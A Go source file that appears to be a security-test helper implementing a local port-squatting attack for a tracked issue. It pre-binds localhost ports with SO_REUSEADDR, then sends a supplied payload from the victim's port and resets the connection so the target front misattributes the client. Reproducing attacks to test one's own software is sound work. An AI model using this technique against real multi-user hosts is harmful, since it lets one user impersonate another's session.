package main

import (
	"fmt"
	"os"
	"path/filepath"
	"strings"
	"time"

	"golang.org/x/sys/unix"
)

// doorSquat is issue 16's attack on the session's door. Armed: n sockets bound with
// SO_REUSEADDR (never listening) to 127.0.0.1:p for every port p of lo..hi, before the victim's
// fronts take some of those ports (a non-listening bind does not stop a later listener of
// another uid there). Then it waits for dir/go ("FROM TO"; the bytes to send in dir/payload):
// from each socket pre-bound on FROM (now the victim's other port) it connects to 127.0.0.1:TO,
// sends the payload and resets the connection (a zero linger), so that the front's lookup of
// the client's socket finds the victim's listener on FROM instead. What it did goes to
// dir/done: "tries N connected C sent S". It never reads: a reset connection gets nothing.
func doorSquat(dir, ports string, n int, ready string) error {
	var lo, hi int
	if _, err := fmt.Sscanf(ports, "%d-%d", &lo, &hi); err != nil || lo < 1 || hi > 65535 || lo > hi {
		return fmt.Errorf("-ports %q: want LO-HI", ports)
	}
	bound := map[int][]int{}
	for p := lo; p <= hi; p++ {
		for i := 0; i < n; i++ {
			fd, err := unix.Socket(unix.AF_INET, unix.SOCK_STREAM|unix.SOCK_CLOEXEC, 0)
			if err != nil {
				return err
			}
			if err := unix.SetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_REUSEADDR, 1); err != nil {
				return err
			}
			if err := unix.Bind(fd, &unix.SockaddrInet4{Port: p, Addr: [4]byte{127, 0, 0, 1}}); err != nil {
				unix.Close(fd)
				break // somebody listens there already: not a port to squat
			}
			bound[p] = append(bound[p], fd)
		}
	}
	if err := writeReady(ready, fmt.Sprintf("squatting %d ports\n", len(bound))); err != nil {
		return err
	}
	var from, to int
	for {
		b, err := os.ReadFile(filepath.Join(dir, "go"))
		if err == nil {
			if _, err := fmt.Sscanf(strings.TrimSpace(string(b)), "%d %d", &from, &to); err != nil {
				return fmt.Errorf("go: %q: want FROM TO", b)
			}
			break
		}
		time.Sleep(20 * time.Millisecond)
	}
	payload, err := os.ReadFile(filepath.Join(dir, "payload"))
	if err != nil {
		return err
	}
	tries, connected, sent := 0, 0, 0
	for _, fd := range bound[from] {
		tries++
		if err := connectThrough(fd, to); err != nil {
			unix.Close(fd)
			continue
		}
		connected++
		if k, err := unix.Write(fd, payload); err == nil && k == len(payload) {
			sent++
		}
		_ = unix.SetsockoptLinger(fd, unix.SOL_SOCKET, unix.SO_LINGER, &unix.Linger{Onoff: 1, Linger: 0})
		unix.Close(fd)
		// One try at a time, as a patient attacker: each gets the front's full attention.
		time.Sleep(50 * time.Millisecond)
	}
	return writeReady(filepath.Join(dir, "done"), fmt.Sprintf("tries %d connected %d sent %d\n", tries, connected, sent))
}

// connectThrough connects fd to 127.0.0.1:port. A blocking connect interrupted by a signal (Go's
// runtime preempts with SIGURG) returns EINTR while the handshake goes on in the kernel, and the
// launcher then sees, and refuses, a connection the attacker would not have counted: so on EINTR
// it waits (1 s at most) for the handshake's end and takes its result from SO_ERROR.
func connectThrough(fd, port int) error {
	err := unix.Connect(fd, &unix.SockaddrInet4{Port: port, Addr: [4]byte{127, 0, 0, 1}})
	if err != unix.EINTR {
		return err
	}
	pfd := []unix.PollFd{{Fd: int32(fd), Events: unix.POLLOUT}}
	deadline := time.Now().Add(time.Second)
	for {
		n, err := unix.Poll(pfd, int(time.Until(deadline)/time.Millisecond))
		if err == unix.EINTR && time.Now().Before(deadline) {
			continue
		}
		if err != nil {
			return err
		}
		if n == 0 {
			return unix.ETIMEDOUT
		}
		break
	}
	soErr, err := unix.GetsockoptInt(fd, unix.SOL_SOCKET, unix.SO_ERROR)
	if err != nil {
		return err
	}
	if soErr != 0 {
		return unix.Errno(soErr)
	}
	return nil
}
